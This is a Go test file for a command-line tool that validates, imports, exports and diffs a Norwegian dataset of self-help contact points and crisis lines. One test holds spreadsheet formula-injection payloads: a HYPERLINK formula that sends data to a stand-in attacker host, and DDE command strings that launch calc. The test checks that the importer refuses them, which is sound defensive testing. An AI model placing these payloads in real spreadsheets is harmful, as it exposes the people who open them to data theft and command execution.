package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/selvhjelp/finder/data/dataset"
	"github.com/selvhjelp/finder/data/store"
)

// fixture is a small, valid dataset (a few real records); tests of the
// commands run on it, never on the shipped data, so that maintainers'
// edits to data/ never turn them red.
const fixture = "../../data/testdata/small"

// fixedNow is the clock of every test: 2026-11-23.
var fixedNow = time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)

// copyData writes the fixture dataset (with its manifest) into a fresh
// folder.
func copyData(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for _, f := range append(append([]string{}, store.Files...), store.ManifestFile) {
		b, err := os.ReadFile(filepath.Join(fixture, f))
		require.NoError(t, err)
		require.NoError(t, os.WriteFile(filepath.Join(dir, f), b, 0o644))
	}
	return dir
}

// fixtureData loads the fixture.
func fixtureData(t *testing.T) *dataset.Dataset {
	t.Helper()
	d, err := store.LoadDir(fixture)
	require.NoError(t, err)
	return d
}

// snapshot reads every dataset file of dir.
func snapshot(t *testing.T, dir string) map[string][]byte {
	t.Helper()
	out := map[string][]byte{}
	for _, f := range store.Files {
		b, err := os.ReadFile(filepath.Join(dir, f))
		require.NoError(t, err)
		out[f] = b
	}
	return out
}

func runCmd(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	now := func() time.Time { return fixedNow }
	code = run(env{stdin: strings.NewReader(stdin), stdout: &out, stderr: &errb, now: now}, args)
	return code, out.String(), errb.String()
}

func replaceIn(t *testing.T, path, old, new string) {
	t.Helper()
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	require.Contains(t, string(b), old)
	require.NoError(t, os.WriteFile(path, []byte(strings.Replace(string(b), old, new, 1)), 0o644))
}

func TestValidateCommand(t *testing.T) {
	dir := copyData(t)
	code, out, _ := runCmd(t, "", "validate", "--data", dir)
	assert.Equal(t, 0, code)
	assert.Contains(t, out, "er i orden: 0 feil, 6 advarsler")

	replaceIn(t, filepath.Join(dir, dataset.ContactPointsFile), `"phone": "23 33 19 00"`, `"phone": "2333"`)
	replaceIn(t, filepath.Join(dir, dataset.ContactPointsFile), `"email": "post@norskselvhjelpsforum.no"`, `"email": "post(at)norskselvhjelpsforum.no"`)
	replaceIn(t, filepath.Join(dir, dataset.CountiesFile), `"number": "03",`, `"number": "03"`)
	code, out, _ = runCmd(t, "", "validate", "--data", dir)
	assert.Equal(t, 1, code)
	assert.Regexp(t, `(?m)^counties\.json:4:6: invalid character '"' after object key:value pair$`, out)
	assert.Contains(t, out, "contact_points.json: selvhjelp-norge: phone: \"2333\" er ikke et norsk telefonnummer")
	assert.Contains(t, out, "contact_points.json: norsk-selvhjelpsforum: email: ")
	assert.Contains(t, out, "har 3 feil og 6 advarsler")

	code, out, _ = runCmd(t, "", "validate", "--json", "--data", dir)
	assert.Equal(t, 1, code)
	var r validateReport
	require.NoError(t, json.Unmarshal([]byte(out), &r))
	assert.False(t, r.OK)
	assert.Equal(t, 3, r.Errors)
	assert.Equal(t, 6, r.Warnings)
}

// A truncated or hand-edited reference file fails validation: the
// manifest from make data says what it should hold.
func TestValidateCatchesTruncatedReferenceFile(t *testing.T) {
	dir := copyData(t)
	d, err := store.LoadDir(dir)
	require.NoError(t, err)
	d.Postcodes = d.Postcodes[:1]
	require.NoError(t, store.WriteFiles(d, dir, []string{dataset.PostcodesFile}))
	code, out, _ := runCmd(t, "", "validate", "--data", dir)
	assert.Equal(t, 1, code)
	assert.Regexp(t, `postcodes\.json: 1 poster, men make data skrev [0-9]+: filen er avkortet`, out)

	dir = copyData(t)
	replaceIn(t, filepath.Join(dir, dataset.MunicipalitiesFile), `"admin_centre": "Bergen"`, `"admin_centre": "Bergen sentrum"`)
	code, out, _ = runCmd(t, "", "validate", "--data", dir)
	assert.Equal(t, 1, code)
	assert.Contains(t, out, "municipalities.json: innholdet er ikke det make data skrev")

	dir = copyData(t)
	require.NoError(t, os.Remove(filepath.Join(dir, store.ManifestFile)))
	code, out, _ = runCmd(t, "", "validate", "--data", dir)
	assert.Equal(t, 1, code)
	assert.Contains(t, out, "manifest.json: mangler: kjør make data")
}

func TestStale(t *testing.T) {
	d := &dataset.Dataset{ContactPoints: []dataset.ContactPoint{
		{ID: "b-old", Status: dataset.StatusUnknown, LastVerified: "2015", Phone: "22 00 00 00"},
		{ID: "a-never", Status: dataset.StatusUnknown, Email: "post@example.no"},
		{ID: "c-older", Status: dataset.StatusUnknown, LastVerified: "2012-05", URL: "https://example.no"},
		{ID: "d-fresh", Status: dataset.StatusUnknown, LastVerified: "2026-10-01"},
		{ID: "e-closed", Status: dataset.StatusClosed, LastVerified: "2010"},
	}}
	ids := func(list []staleRecord) []string {
		var out []string
		for _, r := range list {
			out = append(out, r.ID)
		}
		return out
	}
	tests := []struct {
		name   string
		months int
		closed bool
		want   []string
	}{
		{"never verified first, then oldest first", 12, false, []string{"a-never", "c-older", "b-old"}},
		{"a wide window keeps the never verified", 200, false, []string{"a-never"}},
		{"closed ones on request", 12, true, []string{"a-never", "e-closed", "c-older", "b-old"}},
		{"a short window catches the fresh one too", 1, false, []string{"a-never", "c-older", "b-old", "d-fresh"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			list, err := stale(d, tt.months, tt.closed, fixedNow)
			require.NoError(t, err)
			assert.Equal(t, tt.want, ids(list))
		})
	}

	// The call list says how to reach each one.
	code, out, _ := runCmd(t, "", "stale", "--months", "12", "--data", copyData(t))
	assert.Equal(t, 0, code)
	assert.Contains(t, out, "23 33 19 00", "the phone to call")
	assert.Contains(t, out, "https://www.linktromso.no", "the web page to check")

	code, out, _ = runCmd(t, "", "stale", "--json", "--months", "12", "--data", copyData(t))
	assert.Equal(t, 0, code)
	var got []staleRecord
	require.NoError(t, json.Unmarshal([]byte(out), &got))
	require.NotEmpty(t, got)
	for _, r := range got {
		assert.NotEqual(t, dataset.StatusClosed, r.Status)
	}
}

func TestExportImportRoundTrip(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
	}{
		{"semicolon with BOM", nil},
		{"comma without BOM", []string{"--sep", ",", "--bom=false"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := copyData(t)
			before := snapshot(t, dir)
			code, csvText, stderr := runCmd(t, "", append([]string{"export-csv", "--data", dir}, tc.args...)...)
			require.Equal(t, 0, code, stderr)
			file := filepath.Join(t.TempDir(), "kontaktpunkter.csv")
			require.NoError(t, os.WriteFile(file, []byte(csvText), 0o644))

			code, out, stderr := runCmd(t, "", "import-csv", file, "--data", dir, "--replace")
			require.Equal(t, 0, code, stderr)
			n := len(fixtureData(t).ContactPoints)
			assert.Contains(t, out, fmt.Sprintf("0 nye, 0 endret, %d uendret, 0 fjernet", n))
			assert.Equal(t, before, snapshot(t, dir), "export then import must not change a byte")
		})
	}
}

func TestImportCSVWithOneBadRowChangesNothing(t *testing.T) {
	dir := copyData(t)
	before := snapshot(t, dir)
	_, csvText, _ := runCmd(t, "", "export-csv", "--data", dir, "--bom=false")
	r := csv.NewReader(strings.NewReader(csvText))
	r.Comma = ';'
	rows, err := r.ReadAll()
	require.NoError(t, err)
	// Row 4 of the sheet (header = row 1) gets a broken phone number and an
	// unknown topic; row 2 is also edited, validly.
	col := func(name string) int {
		i := slices.Index(rows[0], name)
		require.GreaterOrEqual(t, i, 0, "column %s", name)
		return i
	}
	rows[3][col("telefon")] = "55 55"
	rows[3][col("temaer")] = "angst, utbrenthet"
	rows[1][col("navn")] += " (endret)"
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.Comma = ';'
	require.NoError(t, w.WriteAll(rows))
	file := filepath.Join(t.TempDir(), "ark.csv")
	require.NoError(t, os.WriteFile(file, buf.Bytes(), 0o644))

	code, out, stderr := runCmd(t, "", "import-csv", file, "--data", dir)
	assert.Equal(t, 1, code)
	assert.Empty(t, out)
	assert.Contains(t, stderr, "rad 4: kolonne telefon: \"55 55\" er ikke et norsk telefonnummer")
	assert.Contains(t, stderr, "rad 4: kolonne temaer: temaet \"utbrenthet\" finnes ikke")
	assert.Contains(t, stderr, "Ingenting er endret.")
	assert.NotContains(t, stderr, "rad 2")
	assert.Equal(t, before, snapshot(t, dir))
}

func TestImportCSV(t *testing.T) {
	header := "id;navn;type;kommunenummer;status;sist_verifisert;kilde1_url;kilde1_dato;nettadresse;telefon"
	notesHeader := "id;navn;type;kommunenummer;status;kilde1_url;merknad_innbygger;merknad_innbygger1_språk;merknad_innbygger1_tekst;merknad_innbygger2_språk;merknad_innbygger2_tekst"
	tests := []struct {
		name    string
		csv     string
		code    int
		wantOut string // in stdout on success, stderr on failure
	}{
		{"new record, semicolon, BOM, CRLF",
			"\uFEFF" + header + "\r\nlink-test;LINK Test;senter;4601;ukjent;2026-01;https://example.no/side;januar 2026;https://example.no;+47 55 55 55 55\r\n",
			0, "ny: link-test"},
		{"comma separated, LF",
			strings.ReplaceAll(header, ";", ",") + "\nlink-test,LINK Test,senter,4601,ukjent,2026-01,https://example.no/side,\"januar, 2026\",https://example.no,\n",
			0, "ny: link-test"},
		{"leading zeros stripped by a spreadsheet",
			"id;navn;type;kommunenummer;postnummer;poststed;status;kilde1_url\nlink-test;LINK Test;senter;301;364;Oslo;ukjent;https://example.no\n",
			0, "ny: link-test"},
		{"unknown column",
			header + ";farge\nlink-test;LINK Test;senter;4601;ukjent;;https://example.no;;;;blå\n",
			1, "rad 1: kolonne farge: ukjent kolonne"},
		{"missing column", "id;navn\nx;y\n", 1, "rad 1: kolonne type: kolonnen mangler"},
		{"bad kind and status",
			header + "\nlink-test;LINK Test;kafé;4601;åpen;;https://example.no;;;\n",
			1, "rad 2: kolonne type: ukjent type"},
		{"http address",
			header + "\nlink-test;LINK Test;senter;4601;ukjent;;https://example.no;;http://example.no;\n",
			1, "rad 2: kolonne nettadresse: \"http://example.no\" må bruke https"},
		{"missing source",
			header + "\nlink-test;LINK Test;senter;4601;ukjent;;;;;\n",
			1, "rad 2: kolonne kilde1_url: mangler"},
		{"duplicate id",
			header + "\nlink-test;LINK Test;senter;4601;ukjent;;https://example.no;;;\nlink-test;LINK Test;senter;4601;ukjent;;https://example.no;;;\n",
			1, "rad 3: kolonne id: id \"link-test\" står også i rad 2"},
		{"not UTF-8", "id;navn;type;status\nx;Troms\xf8;senter;ukjent\n", 1, "ikke UTF-8"},
		{"too many cells", header + "\nlink-test;LINK Test;senter;4601;ukjent;;https://example.no;;;;;;\n", 1, "rad 2: 13 celler"},
		{"future date", header + "\nlink-test;LINK Test;senter;4601;ukjent;2099-01-01;https://example.no;;;\n", 1, "rad 2: kolonne sist_verifisert: 2099-01-01 ligger i fremtiden"},
		{"citizen notes in other languages",
			notesHeader + "\nlink-test;LINK Test;senter;4601;ukjent;https://example.no;Tekst.;nn;Tekst på nynorsk.;en;Text in English.\n",
			0, "ny: link-test"},
		{"citizen note in an unknown language",
			notesHeader + "\nlink-test;LINK Test;senter;4601;ukjent;https://example.no;Tekst.;nn;Tekst.;se;Teaksta.\n",
			1, "rad 2: kolonne merknad_innbygger2_språk: ukjent språk \"se\""},
		{"citizen note language twice",
			notesHeader + "\nlink-test;LINK Test;senter;4601;ukjent;https://example.no;Tekst.;en;One.;en;Two.\n",
			1, "rad 2: kolonne merknad_innbygger2_språk: en står to ganger"},
		{"citizen note without its text",
			notesHeader + "\nlink-test;LINK Test;senter;4601;ukjent;https://example.no;Tekst.;nn;;en;Text.\n",
			1, "rad 2: kolonne merknad_innbygger1_tekst: mangler"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := copyData(t)
			before := snapshot(t, dir)
			file := filepath.Join(t.TempDir(), "ark.csv")
			require.NoError(t, os.WriteFile(file, []byte(tt.csv), 0o644))
			code, out, stderr := runCmd(t, "", "import-csv", "--data", dir, file)
			assert.Equal(t, tt.code, code, "stdout: %s\nstderr: %s", out, stderr)
			if tt.code == 0 {
				assert.Contains(t, out, tt.wantOut)
				d, err := store.LoadDir(dir)
				require.NoError(t, err)
				assert.Len(t, d.ContactPoints, len(fixtureData(t).ContactPoints)+1, "merged, not replaced")
				return
			}
			assert.Contains(t, stderr, tt.wantOut)
			assert.Equal(t, before, snapshot(t, dir), "a bad sheet must change nothing")
		})
	}
}

// TestImportCSVCitizenNotes: the numbered columns become citizen_notes,
// in column order, and export writes them back as they came in.
func TestImportCSVCitizenNotes(t *testing.T) {
	dir := copyData(t)
	sheet := "id;navn;type;kommunenummer;status;kilde1_url;merknad_innbygger;merknad_innbygger1_språk;merknad_innbygger1_tekst;merknad_innbygger2_språk;merknad_innbygger2_tekst\n" +
		"link-test;LINK Test;senter;4601;ukjent;https://example.no;Tekst.;nn;Tekst på nynorsk.;en;Text in English.\n"
	file := filepath.Join(t.TempDir(), "ark.csv")
	require.NoError(t, os.WriteFile(file, []byte(sheet), 0o644))
	code, out, stderr := runCmd(t, "", "import-csv", "--data", dir, file)
	require.Equal(t, 0, code, "stdout: %s\nstderr: %s", out, stderr)
	d, err := store.LoadDir(dir)
	require.NoError(t, err)
	i := slices.IndexFunc(d.ContactPoints, func(c dataset.ContactPoint) bool { return c.ID == "link-test" })
	require.GreaterOrEqual(t, i, 0)
	assert.Equal(t, []dataset.Text{{Language: "nn", Text: "Tekst på nynorsk."}, {Language: "en", Text: "Text in English."}}, d.ContactPoints[i].CitizenNotes)
	_, csvText, _ := runCmd(t, "", "export-csv", "--data", dir, "--bom=false")
	assert.Contains(t, csvText, ";nn;Tekst på nynorsk.;en;Text in English.;https://example.no;")
}

func TestDiff(t *testing.T) {
	oldDir, newDir := copyData(t), copyData(t)
	code, out, _ := runCmd(t, "", "diff", oldDir, newDir)
	assert.Equal(t, 0, code)
	assert.Equal(t, "Ingen endringer.\n", out)

	d, err := store.LoadDir(newDir)
	require.NoError(t, err)
	for i := range d.ContactPoints {
		c := &d.ContactPoints[i]
		if c.ID == "link-oslo" {
			c.Phone = "22 00 00 00"
			c.Topics = append(c.Topics, "depresjon")
			c.Sources[0].PageDate = "2026-11-01"
			c.Kind = dataset.KindPeerGroup
			c.Schedule, c.MinAge, c.Cost, c.Free = "torsdager kl. 18–20", 18, "gratis", true
			c.Meetings = []dataset.Meeting{{Weekday: "thursday", Start: "18:00", End: "20:00"}}
		}
	}
	gone := d.Postcodes[0]
	d.Postcodes = d.Postcodes[1:]
	d.ContactPoints = append(d.ContactPoints, dataset.ContactPoint{ID: "link-ny", Name: "LINK Ny", Kind: dataset.KindCentre, Municipality: "4601", Status: dataset.StatusUnknown, StatusNote: "x", Sources: []dataset.SourceRef{{URL: "https://example.no"}}})
	require.NoError(t, store.WriteDir(d, newDir))

	code, out, _ = runCmd(t, "", "diff", oldDir, newDir)
	assert.Equal(t, 0, code)
	assert.Contains(t, out, fmt.Sprintf("postcodes.json: fjernet: %s (%s)\n", gone.Code, gone.Place))
	assert.Contains(t, out, "contact_points.json: ny: link-ny (LINK Ny)\n")
	assert.Contains(t, out, "contact_points.json: endret: link-oslo (LINK Oslo – senter for selvhjelp og mestring)\n")
	assert.Contains(t, out, "    phone: lagt til «22 00 00 00»   ← GJENNOMGANG: nytt telefonnummer: 22000000\n")
	assert.Contains(t, out, "    topics: lagt til «depresjon»\n")
	assert.Contains(t, out, "    sources[0].page_date: «ingen dato vist» → «2026-11-01»\n")
	// Kinds and practical facts are named like every field.
	assert.Contains(t, out, "    kind: «centre» → «peer_group»\n")
	assert.Contains(t, out, "    schedule: lagt til «torsdager kl. 18–20»\n")
	assert.Contains(t, out, "    min_age: lagt til 18\n")
	assert.Contains(t, out, "    meetings[0].weekday: lagt til «thursday»\n")
	assert.Contains(t, out, "1 nye, 1 fjernet, 1 endret.")
	assert.Contains(t, out, "1 endringer trenger en ny gjennomgang")

	code, out, _ = runCmd(t, "", "diff", "--json", oldDir, newDir)
	assert.Equal(t, 0, code)
	var changes []recordChange
	require.NoError(t, json.Unmarshal([]byte(out), &changes))
	assert.Len(t, changes, 3)

	require.NoError(t, os.WriteFile(filepath.Join(newDir, dataset.TopicsFile), []byte("[{"), 0o644))
	code, _, stderr := runCmd(t, "", "diff", oldDir, newDir)
	assert.Equal(t, 1, code)
	assert.Contains(t, stderr, "ugyldig JSON")
}

// finder diff marks every change of where a record sends people (a
// link's or e-mail's domain, a phone or crisis number) for a second review,
// and nothing else.
func TestDiffSecondReview(t *testing.T) {
	tests := []struct {
		name   string
		change func(d *dataset.Dataset)
		want   string // a line of the report; "" = no line is marked
	}{
		{"another page on the same domain", func(d *dataset.Dataset) { contactIn(d, "link-oslo").URL = "https://linkoslo.no/kontakt/" }, ""},
		{"a note", func(d *dataset.Dataset) { contactIn(d, "link-oslo").Note = "Ny merknad." }, ""},
		{"a look-alike domain", func(d *dataset.Dataset) { contactIn(d, "link-oslo").URL = "https://linkosl0.no" },
			"    url: «https://linkoslo.no» → «https://linkosl0.no»   ← GJENNOMGANG: domene endret: linkoslo.no → linkosl0.no\n"},
		{"an e-mail at another domain", func(d *dataset.Dataset) { contactIn(d, "selvhjelp-norge").Email = "post@selvhjelp.example" },
			"    email: «post@selvhjelp.no» → «post@selvhjelp.example»   ← GJENNOMGANG: domene endret: selvhjelp.no → selvhjelp.example\n"},
		{"another phone number", func(d *dataset.Dataset) { contactIn(d, "selvhjelp-norge").Phone = "23 33 19 01" },
			"    phone: «23 33 19 00» → «23 33 19 01»   ← GJENNOMGANG: telefonnummer endret: 23331900 → 23331901\n"},
		{"another crisis number", func(d *dataset.Dataset) { d.CrisisLines[1].Number = "116 124" },
			"    number: «116 123» → «116 124»   ← GJENNOMGANG: krisenummer endret: 116123 → 116124\n"},
		{"a crisis line removed", func(d *dataset.Dataset) { d.CrisisLines = d.CrisisLines[:1] },
			"crisis_lines.json: fjernet: mental-helse-116123 (Mental Helse Hjelpetelefonen)   ← GJENNOMGANG: krisetelefonen \"Mental Helse Hjelpetelefonen\" er fjernet\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			oldDir, newDir := copyData(t), copyData(t)
			d, err := store.LoadDir(newDir)
			require.NoError(t, err)
			tt.change(d)
			require.NoError(t, store.WriteDir(d, newDir))
			code, out, stderr := runCmd(t, "", "diff", oldDir, newDir)
			require.Equal(t, 0, code, stderr)
			if tt.want == "" {
				assert.NotContains(t, out, "GJENNOMGANG")
				return
			}
			assert.Contains(t, out, tt.want)
			assert.Contains(t, out, "1 endringer trenger en ny gjennomgang")
			_, js, _ := runCmd(t, "", "diff", "--json", oldDir, newDir)
			assert.Contains(t, js, `"review": "`)
		})
	}
}

// finder validate --previous warns about the same changes, as warnings.
func TestValidatePreviousFlagsSecondReview(t *testing.T) {
	prevDir, dir := copyData(t), copyData(t)
	d, err := store.LoadDir(dir)
	require.NoError(t, err)
	contactIn(d, "selvhjelp-norge").Phone = "23 33 19 01"
	d.CrisisLines[1].Number = "116 124"
	require.NoError(t, store.WriteDir(d, dir))
	code, out, stderr := runCmd(t, "", "validate", "--data", dir, "--previous", prevDir)
	require.Equal(t, 0, code, stderr)
	assert.Contains(t, out, "contact_points.json: selvhjelp-norge: phone: advarsel: telefonnummer endret: 23331900 → 23331901: trenger en ny gjennomgang")
	assert.Contains(t, out, "crisis_lines.json: mental-helse-116123: number: advarsel: krisenummer endret: 116123 → 116124: trenger en ny gjennomgang")

	code, _, stderr = runCmd(t, "", "validate", "--data", dir, "--previous", filepath.Join(prevDir, "nope"))
	assert.Equal(t, 1, code)
	assert.Contains(t, stderr, "--previous")
}

// --previous git:HEAD compares with the last commit: what is not committed
// yet gets its second-review warnings.
func TestValidatePreviousGitRevision(t *testing.T) {
	top := publishRepo(t)
	dir := filepath.Join(top, deployedFolder)
	code, out, stderr := runCmd(t, "", "validate", "--data", dir, "--previous", "git:HEAD")
	require.Equal(t, 0, code, stderr)
	assert.NotContains(t, out, "gjennomgang")

	replaceIn(t, filepath.Join(dir, dataset.CrisisLinesFile), `"number": "116 123"`, `"number": "116 124"`)
	code, out, stderr = runCmd(t, "", "validate", "--data", dir, "--previous", "git:HEAD")
	require.Equal(t, 0, code, stderr)
	assert.Contains(t, out, "crisis_lines.json: mental-helse-116123: number: advarsel: krisenummer endret: 116123 → 116124: trenger en ny gjennomgang")

	code, _, stderr = runCmd(t, "", "validate", "--data", copyData(t), "--previous", "git:HEAD")
	assert.Equal(t, 1, code)
	assert.Contains(t, stderr, "ligger ikke i en git-mappe")
}

// contactIn returns the contact point id of d.
func contactIn(d *dataset.Dataset, id string) *dataset.ContactPoint {
	for i := range d.ContactPoints {
		if d.ContactPoints[i].ID == id {
			return &d.ContactPoints[i]
		}
	}
	panic("no contact point " + id)
}

// Cells a spreadsheet would run as formulas are written neutralised and
// read back as they were; hostile cells in a sheet are refused by row and
// column; a phone number with +47 passes.
func TestCSVFormulaSafety(t *testing.T) {
	dir := copyData(t)
	d, err := store.LoadDir(dir)
	require.NoError(t, err)
	for i := range d.ContactPoints {
		if d.ContactPoints[i].ID == "selvhjelp-norge" {
			d.ContactPoints[i].Phone = "+47 23 33 19 00"
			d.ContactPoints[i].Groups = "-grupper på tvers; =se kilden"
			d.ContactPoints[i].Note = "@merk: ring før du kommer"
		}
	}
	require.NoError(t, store.WriteFiles(d, dir, []string{dataset.ContactPointsFile}))
	before := snapshot(t, dir)
	code, csvText, stderr := runCmd(t, "", "export-csv", "--data", dir, "--bom=false")
	require.Equal(t, 0, code, stderr)
	for _, cell := range []string{"'+47 23 33 19 00", "'-grupper på tvers; =se kilden", "'@merk: ring før du kommer"} {
		assert.Contains(t, csvText, cell, "exported neutralised")
	}
	file := filepath.Join(t.TempDir(), "ark.csv")
	require.NoError(t, os.WriteFile(file, []byte(csvText), 0o644))
	code, out, stderr := runCmd(t, "", "import-csv", file, "--data", dir)
	require.Equal(t, 0, code, stderr)
	assert.Contains(t, out, "0 endret")
	assert.Equal(t, before, snapshot(t, dir), "the round trip is lossless")

	header := "id;navn;type;kommunenummer;status;kilde1_url;merknad;telefon\n"
	tests := []struct {
		name, row, want string
	}{
		{"hyperlink", `link-test;LINK Test;senter;4601;ukjent;https://example.no;"=HYPERLINK(""https://evil.example/?d=""&A1,""LINK Oslo"")";`, `rad 2: kolonne merknad: cellen begynner med "="`},
		{"command", `link-test;LINK Test;senter;4601;ukjent;https://example.no;+cmd|' /C calc'!A0;`, `rad 2: kolonne merknad: cellen begynner med "+"`},
		{"at", `link-test;LINK Test;senter;4601;ukjent;https://example.no;@SUM(1+1)*cmd|' /C calc'!A0;`, `rad 2: kolonne merknad: cellen begynner med "@"`},
		{"minus", `link-test;LINK Test;senter;4601;ukjent;https://example.no;-2+3+cmd|' /C calc'!A0;`, `rad 2: kolonne merknad: cellen begynner med "-"`},
		{"tab", "link-test;LINK Test;senter;4601;ukjent;https://example.no;\t=1+1;", `rad 2: kolonne merknad: cellen begynner med "\t"`},
		{"in a source", `link-test;LINK Test;senter;4601;ukjent;=1+1;;`, `rad 2: kolonne kilde1_url: cellen begynner med "="`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := copyData(t)
			before := snapshot(t, dir)
			file := filepath.Join(t.TempDir(), "ark.csv")
			require.NoError(t, os.WriteFile(file, []byte(header+tt.row+"\n"), 0o644))
			code, _, stderr := runCmd(t, "", "import-csv", file, "--data", dir)
			assert.Equal(t, 1, code)
			assert.Contains(t, stderr, tt.want)
			assert.Equal(t, before, snapshot(t, dir))
		})
	}
	t.Run("phone with +47 typed in a spreadsheet", func(t *testing.T) {
		dir := copyData(t)
		file := filepath.Join(t.TempDir(), "ark.csv")
		require.NoError(t, os.WriteFile(file, []byte(header+"link-test;LINK Test;senter;4601;ukjent;https://example.no;;+47 55 55 55 55\n"), 0o644))
		code, _, stderr := runCmd(t, "", "import-csv", file, "--data", dir)
		require.Equal(t, 0, code, stderr)
	})
}

// A sheet that lost most of its rows cannot empty the dataset.
func TestImportReplaceNeedsAllowRemovals(t *testing.T) {
	dir := copyData(t)
	before := snapshot(t, dir)
	n := len(fixtureData(t).ContactPoints)
	file := filepath.Join(t.TempDir(), "ark.csv")
	require.NoError(t, os.WriteFile(file, []byte("id;navn;type;kommunenummer;status;kilde1_url\nlink-test;LINK Test;senter;4601;ukjent;https://example.no\n"), 0o644))

	code, _, stderr := runCmd(t, "", "import-csv", file, "--replace", "--data", dir)
	assert.Equal(t, 1, code)
	assert.Contains(t, stderr, fmt.Sprintf("ville fjernet %d kontaktpunkter: link-bergen-og-omegn, link-oslo", n))
	assert.Contains(t, stderr, fmt.Sprintf("--allow-removals %d", n))
	assert.Equal(t, before, snapshot(t, dir))

	code, out, stderr := runCmd(t, "", "import-csv", file, "--replace", "--allow-removals", fmt.Sprint(n), "--data", dir)
	require.Equal(t, 0, code, stderr)
	assert.Contains(t, out, fmt.Sprintf("%d fjernet", n))
}

// import-csv prints the warnings of the rows it adds or changes, by row and
// column, with every change of a domain or number flagged for a second
// review; the rest of the dataset's warnings are counted.
func TestImportCSVPrintsWarnings(t *testing.T) {
	dir := copyData(t)
	_, csvText, _ := runCmd(t, "", "export-csv", "--data", dir, "--bom=false")
	r := csv.NewReader(strings.NewReader(csvText))
	r.Comma = ';'
	rows, err := r.ReadAll()
	require.NoError(t, err)
	col := func(name string) int {
		i := slices.Index(rows[0], name)
		require.GreaterOrEqual(t, i, 0, "column %s", name)
		return i
	}
	row := slices.IndexFunc(rows, func(r []string) bool { return r[col("id")] == "selvhjelp-norge" })
	require.Positive(t, row)
	rows[row][col("telefon")] = "945 32 189"
	rows[row][col("epost")] = "post@selvhjeIp.no"
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.Comma = ';'
	require.NoError(t, w.WriteAll(rows))
	file := filepath.Join(t.TempDir(), "ark.csv")
	require.NoError(t, os.WriteFile(file, buf.Bytes(), 0o644))

	code, out, stderr := runCmd(t, "", "import-csv", file, "--data", dir)
	require.Equal(t, 0, code, stderr)
	sheetRow := row + 1 // the header is row 1
	for _, want := range []string{
		fmt.Sprintf("ark.csv: rad %d: kolonne telefon: advarsel: 945 32 189 er et mobilnummer", sheetRow),
		fmt.Sprintf("ark.csv: rad %d: kolonne telefon: advarsel: telefonnummer endret: 23331900 → 94532189: trenger en ny gjennomgang", sheetRow),
		fmt.Sprintf("ark.csv: rad %d: kolonne epost: advarsel: domenet \"selvhjeIp.no\" ligner \"selvhjelp.no\"", sheetRow),
		fmt.Sprintf("ark.csv: rad %d: kolonne epost: advarsel: domene endret: selvhjelp.no → selvhjeip.no", sheetRow),
		"advarsler til i resten av datasettet",
	} {
		assert.Contains(t, out, want)
	}
}
